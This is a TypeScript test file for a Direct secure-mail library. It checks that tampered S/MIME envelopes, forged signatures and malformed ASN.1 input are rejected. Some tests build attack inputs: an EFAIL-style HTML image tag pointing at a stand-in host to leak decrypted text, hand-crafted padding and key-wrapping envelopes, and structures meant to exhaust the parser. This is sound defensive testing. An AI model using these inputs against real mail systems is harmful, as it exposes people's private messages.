/** Mails that were changed, cut off or made to ask questions (direct-xdm 3, 14; issue 13, "Bad input"). */
import { constants, createCipheriv, createHash, publicEncrypt, randomBytes, sign } from 'node:crypto';
import { beforeAll, describe, expect, test } from '@jest/globals';
import type { SigningKey } from '../../../src/direct/certificates/signing-key.ts';
import { readAsn1 } from '../../../src/direct/cms/asn1.ts';
import { AES256_CBC, ATTRIBUTE, CONTENT, RSA, SHA256 } from '../../../src/direct/cms/algorithms.ts';
import { encryptFor } from '../../../src/direct/cms/encrypt.ts';
import { openMail, type OpenedMail } from '../../../src/direct/cms/open.ts';
import { signDetached } from '../../../src/direct/cms/sign.ts';
import { verifyDetached } from '../../../src/direct/cms/verify.ts';
import { MAIL_LIMITS } from '../../../src/direct/mime/limits.ts';
import { readMail } from '../../../src/direct/mime/read.ts';
import { signingKeyOf } from '../../../tools/direct/correspondent.ts';
import { createDirectWorld } from '../../direct-world.ts';
import {
  constructed,
  contentInfo,
  contextTag,
  DER_NULL,
  issuerAndSerial,
  objectIdentifier,
  octets,
  primitive,
  readBer,
  sequence,
  setOf,
  writeInteger,
} from './ber.ts';
import { envelopeMime, signedMime } from './openssl-cms.ts';

const PART = Buffer.from(
  'Content-Type: message/rfc822\r\n\r\nFrom: nokafor@direct.alder.example.org\r\nSubject: XDM/1.0/DDM\r\n\r\nWhat is signed.\r\n',
);
const AT = Date.UTC(2026, 11, 1);
const UNDECRYPTABLE = { kind: 'undecryptable' };

let ours: SigningKey;
let theirs: SigningKey;
let signed: Buffer;
let envelope: Uint8Array;

beforeAll(async () => {
  const world = await createDirectWorld();
  ours = signingKeyOf(world.initiator);
  theirs = signingKeyOf(world.recipient);
  signed = signedMime(PART, signDetached(PART, ours, AT));
  envelope = encrypt(signed);
});

const encrypt = (content: Uint8Array): Uint8Array =>
  encryptFor(content, {
    recipient: theirs.certificate,
    keyTransport: 'pkcs1',
    random: (bytes) => randomBytes(bytes),
  });

const openEnvelope = (bytes: Uint8Array, keys = [theirs], limits = MAIL_LIMITS): Promise<OpenedMail> =>
  openMail(envelopeMime(bytes), keys, limits);

const openInside = (content: Uint8Array | string): Promise<OpenedMail> =>
  openEnvelope(encrypt(Buffer.from(content)));

function flipped(bytes: Uint8Array, at: number, bit = 1): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = (copy[at] ?? 0) ^ bit;
  return copy;
}

/** Where the last long octet strings of an envelope stand: the encrypted key, the IV, the content. */
function placesOf(bytes: Uint8Array): {
  readonly key: number;
  readonly iv: number;
  readonly content: number;
} {
  const whole = Buffer.from(bytes);
  const fields = readBer(bytes, MAIL_LIMITS)?.children[1]?.children[0]?.children ?? [];
  const at = (part: Uint8Array | undefined): number => whole.indexOf(part ?? Buffer.from('none'));
  return {
    key: at(fields[1]?.children[0]?.children[3]?.content),
    iv: at(fields[2]?.children[1]?.children[1]?.content),
    content: at(fields[2]?.children[2]?.content),
  };
}

describe('(direct-xdm 3) a mail that was changed', () => {
  test('is what it was, as long as nobody changes it', async () => {
    expect(await openEnvelope(envelope)).toMatchObject({ kind: 'opened' });
    for (const type of ['application/x-pkcs7-mime', 'application/octet-stream; name="SMIME.P7M"']) {
      const mail = envelopeMime(envelope)
        .toString()
        .replace(/application\/pkcs7-mime;.*/, type);
      expect(await openMail(Buffer.from(mail), [theirs], MAIL_LIMITS)).toMatchObject({ kind: 'opened' });
    }
  });

  test('in its key, and with the wrong key, is undecryptable', async () => {
    const { key } = placesOf(envelope);
    for (const at of [key, key + 1, key + 100, key + 255])
      expect(await openEnvelope(flipped(envelope, at))).toEqual(UNDECRYPTABLE);
    expect(await openEnvelope(envelope, [])).toEqual(UNDECRYPTABLE);
    expect(await openEnvelope(envelope, [ours])).toEqual(UNDECRYPTABLE);
    expect(await openEnvelope(envelope, [{ ...theirs, privateKey: ours.privateKey }])).toEqual(UNDECRYPTABLE);
  });

  test('in its content never opens, and what comes out of it is never shown (EFAIL, gadgets of CBC)', async () => {
    const { content } = placesOf(envelope);
    const last = envelope.length - 1;
    for (const at of [content, content + 16, content + 200, content + 500, last - 40, last - 16, last])
      for (const bit of [1, 0x80]) {
        const found = await openEnvelope(flipped(envelope, at, bit));
        expect(['undecryptable', 'distrusted']).toContain(found.kind);
        expect(Object.keys(found)).not.toContain('message');
      }
  });

  test('in its first block by way of the IV: the signature stands, or nothing comes out', async () => {
    const { iv } = placesOf(envelope);
    expect(await openEnvelope(flipped(envelope, iv, 0x01))).toEqual(UNDECRYPTABLE); // no Content-Type any more
    const other = await openEnvelope(flipped(envelope, iv, 0x20)); // content-Type
    expect(other).toMatchObject({ kind: 'opened' });
    expect(other.kind === 'opened' && PART.equals(other.signed)).toBe(true);
  });

  test.each([
    ['a byte of the part', (inner: Buffer) => flipped(inner, inner.indexOf('What'))],
    [
      'the line ends of the part',
      (inner: Buffer) => Buffer.from(inner.toString('latin1').replace('signed.\r\n', 'signed.\n'), 'latin1'),
    ],
    [
      'a line more',
      (inner: Buffer) => Buffer.from(inner.toString('latin1').replace('signed.', 'signed.\r\n'), 'latin1'),
    ],
    [
      'a part before the signature',
      (inner: Buffer) =>
        Buffer.from(
          inner
            .toString('latin1')
            .replace('--b1\r\nContent-Type: message', '--b1\r\n\r\nmore\r\n--b1\r\nContent-Type: message'),
          'latin1',
        ),
    ],
    [
      'a part after the signature',
      (inner: Buffer) =>
        Buffer.from(inner.toString('latin1').replace('--b1--', '--b1\r\n\r\nmore\r\n--b1--'), 'latin1'),
    ],
    ['no end', (inner: Buffer) => Buffer.from(inner.toString('latin1').replace('--b1--', ''), 'latin1')],
    [
      'another boundary',
      (inner: Buffer) =>
        Buffer.from(inner.toString('latin1').replace('boundary="b1"', 'boundary="b2"'), 'latin1'),
    ],
    [
      'no boundary',
      (inner: Buffer) => Buffer.from(inner.toString('latin1').replace('boundary="b1"', 'x=y'), 'latin1'),
    ],
    [
      'a signature that is none',
      (inner: Buffer) =>
        Buffer.from(inner.toString('latin1').replace(/\r\n\r\nMII/, '\r\n\r\nAAA'), 'latin1'),
    ],
  ])('before it was encrypted again: %s', async (_name, change) => {
    expect(await openInside(change(signed))).toEqual({ kind: 'distrusted', distrust: 'signature-broken' });
  });

  test.each([
    [
      'a mail without a signature',
      'Content-Type: text/plain\r\n\r\nAnybody could have written this.\r\n',
      'unsigned',
    ],
    [
      'a signature that is not at the root',
      () =>
        `Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src="http://x.example/\r\n--m\r\n${signed.toString('latin1')}\r\n--m--\r\n`,
      'unsigned',
    ],
    ['an envelope in an envelope', () => envelopeMime(envelope).toString('latin1'), 'unsigned'],
  ])('(direct-xdm 3) %s', async (_name, inside, distrust) => {
    expect(await openInside(typeof inside === 'string' ? inside : inside())).toEqual({
      kind: 'distrusted',
      distrust,
    });
  });

  test('(direct-xdm 3) an envelope that stands among other parts is not opened (EFAIL, direct exfiltration)', async () => {
    const mail = Buffer.from(
      `From: nokafor@direct.alder.example.org\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src="http://x.example/\r\n--m\r\n${envelopeMime(envelope, '').toString('latin1')}\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n`,
      'latin1',
    );
    expect(await openMail(mail, [theirs], MAIL_LIMITS)).toEqual({ kind: 'not-protected' });
    const reading = readMail(mail, MAIL_LIMITS);
    expect(reading.kind === 'mail' && reading.parts.map(({ contentType }) => contentType)).toEqual([
      'text/html',
      'application/pkcs7-mime',
      'text/html',
    ]);
  });
});

describe('(direct-xdm 3) every question about decrypting has one answer', () => {
  /** An envelope of which the content key and the plain blocks, padding included, are the attacker's choice. */
  const craft = (blocks: Uint8Array, wrapped: (key: Buffer) => Uint8Array): Uint8Array => {
    const key = randomBytes(32);
    const iv = randomBytes(16);
    const cipher = createCipheriv('aes-256-cbc', key, iv).setAutoPadding(false);
    const encrypted = Buffer.concat([cipher.update(blocks), cipher.final()]);
    const info = sequence(
      writeInteger(0),
      issuerAndSerial(theirs.certificate),
      sequence(objectIdentifier(RSA), DER_NULL),
      octets(wrapped(key)),
    );
    const content = sequence(
      objectIdentifier(CONTENT.data),
      sequence(objectIdentifier(AES256_CBC), octets(iv)),
      primitive(contextTag(0), encrypted),
    );
    return contentInfo(CONTENT.enveloped, sequence(writeInteger(0), setOf(info), content));
  };
  const pkcs1 = (key: Uint8Array): Uint8Array =>
    publicEncrypt({ key: theirs.certificate.publicKey, padding: constants.RSA_PKCS1_PADDING }, key);
  const padded = (padding: readonly number[]): Buffer => {
    const room = (16 - ((signed.length + padding.length) % 16)) % 16;
    return Buffer.concat([signed, Buffer.alloc(room, '\n'), Buffer.from(padding)]);
  };

  test.each([
    ['one octet', [1], 'opened'],
    ['five octets', [5, 5, 5, 5, 5], 'opened'],
    ['a whole block', Array.from({ length: 16 }, () => 16), 'opened'],
    ['none', [0], 'undecryptable'],
    ['more than a block', Array.from({ length: 17 }, () => 17), 'undecryptable'],
    ['too large a number', [255], 'undecryptable'],
    ['octets that differ', [5, 5, 4, 5, 5], 'undecryptable'],
    ['the first one differs', [4, 5, 5, 5, 5], 'undecryptable'],
  ])('padding: %s', async (_name, padding, kind) => {
    expect(await openEnvelope(craft(padded(padding), pkcs1))).toMatchObject({ kind });
  });

  test.each<[string, (key: Buffer) => Uint8Array]>([
    ['a key that is too short', (key) => pkcs1(key.subarray(1))],
    ['a key that is too long', (key) => pkcs1(Buffer.concat([key, key]))],
    ['no key', () => pkcs1(new Uint8Array())],
    ['zeros', () => new Uint8Array(256)],
    ['a number that is too large', () => new Uint8Array(256).fill(255)],
    ['too few bytes', (key) => pkcs1(key).subarray(1)],
    ['no bytes', () => new Uint8Array()],
    [
      'another padding',
      (key) => publicEncrypt({ key: theirs.certificate.publicKey, oaepHash: 'sha256' }, key),
    ],
  ])('key: %s', async (_name, wrapped) => {
    expect(await openEnvelope(craft(padded([1]), wrapped))).toEqual(UNDECRYPTABLE);
  });

  test('lengths that no cipher has', async () => {
    const whole = readBer(envelope, MAIL_LIMITS)?.children[1]?.children[0]?.children ?? [];
    const [version, infos] = whole.map((node) => node.whole);
    for (const [iv, length] of [
      [15, 32],
      [16, 0],
      [16, 17],
      [0, 16],
    ] as const) {
      const content = sequence(
        objectIdentifier(CONTENT.data),
        sequence(objectIdentifier(AES256_CBC), octets(randomBytes(iv))),
        primitive(contextTag(0), randomBytes(length)),
      );
      const bytes = contentInfo(
        CONTENT.enveloped,
        sequence(version ?? octets(iv as never), infos ?? DER_NULL, content),
      );
      expect(await openEnvelope(bytes)).toEqual(UNDECRYPTABLE);
    }
  });
});

describe('(direct-xdm 3) a signature that means something else', () => {
  const attribute = (oid: string, ...values: readonly Uint8Array[]): Uint8Array =>
    sequence(objectIdentifier(oid), setOf(...values));
  const type = (oid: string = CONTENT.data): Uint8Array =>
    attribute(ATTRIBUTE.contentType, objectIdentifier(oid));
  const digest = (content: Uint8Array = PART): Uint8Array =>
    attribute(ATTRIBUTE.messageDigest, octets(createHash('sha256').update(content).digest()));

  const signedWith = (
    attributes: readonly Uint8Array[],
    p: { digest?: string; certificates?: readonly Uint8Array[] } = {},
  ) => {
    const set = setOf(...attributes);
    const retagged = Buffer.from(set);
    retagged[0] = 0xa0;
    const algorithm = sequence(objectIdentifier(p.digest ?? SHA256), DER_NULL);
    const signer = sequence(
      writeInteger(1),
      issuerAndSerial(ours.certificate),
      algorithm,
      retagged,
      sequence(objectIdentifier(RSA), DER_NULL),
      octets(sign('sha256', set, ours.privateKey)),
    );
    return contentInfo(
      CONTENT.signed,
      sequence(
        writeInteger(1),
        setOf(algorithm),
        sequence(objectIdentifier(CONTENT.data)),
        constructed(contextTag(0), ...(p.certificates ?? [ours.certificate.raw])),
        setOf(signer),
      ),
    );
  };
  const verdict = (signature: Uint8Array): unknown => {
    const found = verifyDetached(PART, signature, MAIL_LIMITS);
    return found.kind === 'bad' ? found.distrust : found.kind;
  };

  test('is good as it should be', () => {
    expect(verdict(signedWith([type(), digest()]))).toBe('good');
  });

  test.each<[string, () => Uint8Array, string]>([
    ['no digest', () => signedWith([type()]), 'signature-broken'],
    ['no type', () => signedWith([digest()]), 'signature-broken'],
    ['another type', () => signedWith([type(CONTENT.signed), digest()]), 'signature-broken'],
    [
      'the digest of something else',
      () => signedWith([type(), digest(Buffer.from('x'))]),
      'signature-broken',
    ],
    ['two digests', () => signedWith([type(), digest(), digest(Buffer.from('x'))]), 'signature-broken'],
    [
      'the digest twice in one',
      () =>
        signedWith([
          type(),
          attribute(
            ATTRIBUTE.messageDigest,
            octets(createHash('sha256').update(PART).digest()),
            octets(Buffer.from('x')),
          ),
        ]),
      'signature-broken',
    ],
    [
      'another digest than was signed with',
      () => signedWith([type(), digest()], { digest: '2.16.840.1.101.3.4.2.2' }),
      'signature-broken',
    ],
    ['an unknown digest', () => signedWith([type(), digest()], { digest: '1.2.3.4' }), 'digest-forbidden'],
    ['no certificate', () => signedWith([type(), digest()], { certificates: [] }), 'signature-broken'],
    [
      'the certificate of another',
      () => signedWith([type(), digest()], { certificates: [theirs.certificate.raw] }),
      'signature-broken',
    ],
    [
      'certificates that are none',
      () => signedWith([type(), digest()], { certificates: [DER_NULL, sequence(), octets(PART)] }),
      'signature-broken',
    ],
    [
      'too many certificates',
      () =>
        signedWith([type(), digest()], {
          certificates: Array.from({ length: 33 }, () => ours.certificate.raw),
        }),
      'signature-broken',
    ],
    [
      'no signer',
      () =>
        contentInfo(
          CONTENT.signed,
          sequence(writeInteger(1), setOf(), sequence(objectIdentifier(CONTENT.data)), setOf()),
        ),
      'unsigned',
    ],
    ['an envelope', () => envelope, 'signature-broken'],
    ['nothing', () => new Uint8Array(), 'signature-broken'],
  ])('%s', (_name, signature, distrust) => {
    expect(verdict(signature())).toBe(distrust);
  });
});

describe('(direct-xdm 3) bounds', () => {
  test('a structure that is too deep, has too many nodes, or lies about its length is no structure', () => {
    let deep: Uint8Array = DER_NULL;
    for (let depth = 0; depth < 40; depth += 1) deep = sequence(deep);
    expect(readAsn1(deep, MAIL_LIMITS)).toBeUndefined();
    const wide = sequence(Buffer.concat(Array.from({ length: 70_000 }, () => DER_NULL)));
    expect(readAsn1(wide, MAIL_LIMITS)).toBeUndefined();
    const endless = Buffer.concat(Array.from({ length: 50_000 }, () => Buffer.of(0x30, 0x80)));
    expect(readAsn1(endless, MAIL_LIMITS)).toBeUndefined();
    for (const lie of [
      [0x30, 0x84, 0x7f, 0xff, 0xff, 0xff],
      [0x30, 0x89, 1, 1, 1, 1, 1, 1, 1, 1, 1],
      [0x04, 0x05, 1],
      [0x30],
    ])
      expect(readAsn1(Uint8Array.from(lie), MAIL_LIMITS)).toBeUndefined();
    expect(readAsn1(Buffer.concat([DER_NULL, DER_NULL]), MAIL_LIMITS)).toBeUndefined();
  });

  test('(issue 13) a value of many megabytes takes no time that grows faster than its bytes', async () => {
    // The runner gives a test thirty seconds; a square of this length takes hours.
    for (const tag of [0x02, 0x03, 0x06, 0x09, 0x0c, 0x17, 0x1c]) {
      const long = sequence(primitive(tag, Buffer.alloc(2_000_000, 1)));
      expect(readAsn1(long, MAIL_LIMITS)).toBeUndefined();
      expect(verifyDetached(PART, long, MAIL_LIMITS).kind).toBe('bad');
    }
    const wide = sequence(Buffer.concat(Array.from({ length: 9000 }, () => sequence())));
    expect(readAsn1(wide, MAIL_LIMITS)).toBeUndefined();
    const pieces = Buffer.concat(Array.from({ length: 500_000 }, () => Buffer.of(0x24, 0x80)));
    expect(await openEnvelope(pieces)).toEqual(UNDECRYPTABLE);
  });

  test('a mail that is longer than the limit is not looked at', async () => {
    expect(await openMail(envelopeMime(envelope), [theirs], { ...MAIL_LIMITS, bytesMax: 100 })).toEqual({
      kind: 'not-protected',
    });
  });

  test('every beginning of an envelope and of a signature is refused without an error', async () => {
    for (let length = 0; length < envelope.length; length += length < 700 ? 1 : 97)
      expect(await openEnvelope(envelope.subarray(0, length))).toEqual(UNDECRYPTABLE);
    const signature = signDetached(PART, ours, AT);
    for (let length = 0; length < signature.length; length += 1)
      expect(verifyDetached(PART, signature.subarray(0, length), MAIL_LIMITS).kind).toBe('bad');
    for (let length = 0; length < signed.length; length += 7)
      expect((await openInside(signed.subarray(0, length))).kind).not.toBe('opened');
  });
});
